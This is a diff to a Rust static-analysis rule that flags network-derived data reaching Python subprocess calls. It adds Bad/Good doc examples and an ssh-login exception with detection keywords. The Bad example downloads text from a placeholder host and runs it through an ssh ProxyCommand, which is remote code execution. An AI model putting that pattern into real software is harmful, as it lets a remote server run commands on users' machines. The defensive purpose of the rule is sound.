@@ -33,6 +33,22 @@
 //! subprocess.run(['git', 'clone', a])
 //! ```
 //!
+//! ## Bad
+//!
+//! ```python pkg/cli.py
+//! import subprocess, urllib.request
+//! a = urllib.request.urlopen('http://x.example.invalid/').read()
+//! subprocess.run(['ssh', '-o', 'ProxyCommand=' + a, 'x.example.invalid'])
+//! ```
+//!
+//! ## Good
+//!
+//! ```python pkg/cli.py
+//! import requests, subprocess
+//! machine = requests.get('http://x.example.invalid/').json()
+//! subprocess.run(['ssh', f'-p{machine["port"]}', f'user@{machine["host"]}', '-o', 'BatchMode=yes'])
+//! ```
+//!
 //! ## Good
 //!
 //! ```python setup.py
@@ -93,10 +109,11 @@ pub(super) fn runs_answer(call: &Call) -> bool {
 /// answer: only a list says what is what.
 fn is_program_known(call: &Call) -> bool {
     let Some(command) = call.args.first() else { return true };
+    let asked = !call.trigger.is_some_and(Trigger::is_unasked);
     if let Some(items) = command.as_list() {
         let [program, ..] = items else { return true };
         let name = program.as_str().or(program.name.as_deref()).unwrap_or_default();
-        return is_pip(command) || !program.taint.has(Taint::NETWORK) && is_plain(name);
+        return is_pip(command) || !program.taint.has(Taint::NETWORK) && (is_plain(name) || asked && is_login(name, items));
     }
     if command.constant.is_some() {
         // A name such as `r.status_code` of an answer is no code.
@@ -104,9 +121,14 @@ fn is_program_known(call: &Call) -> bool {
     }
     // A list that is not known in full begins, as far as can be seen, with its first text; that is
     // enough where somebody asked for it.
-    let asked = !call.trigger.is_some_and(Trigger::is_unasked);
     let first = command.fragments().first().map(|text| &**text).unwrap_or_default();
     asked && call.callee.starts_with("subprocess.") && !first.contains(char::is_whitespace) && is_plain(first)
+}
+
+/// Whether another machine is logged in to: what runs there runs there, but for commands that an option names.
+fn is_login(program: &str, items: &[Value]) -> bool {
+    let runs_here = |text: &str| ["command", "localhost", "127.0.0."].iter().any(|word| text.to_ascii_lowercase().contains(word));
+    program == "ssh" && !items.iter().flat_map(Value::texts).any(runs_here)
 }
 
 /// Whether a command begins with what reads code from its input.
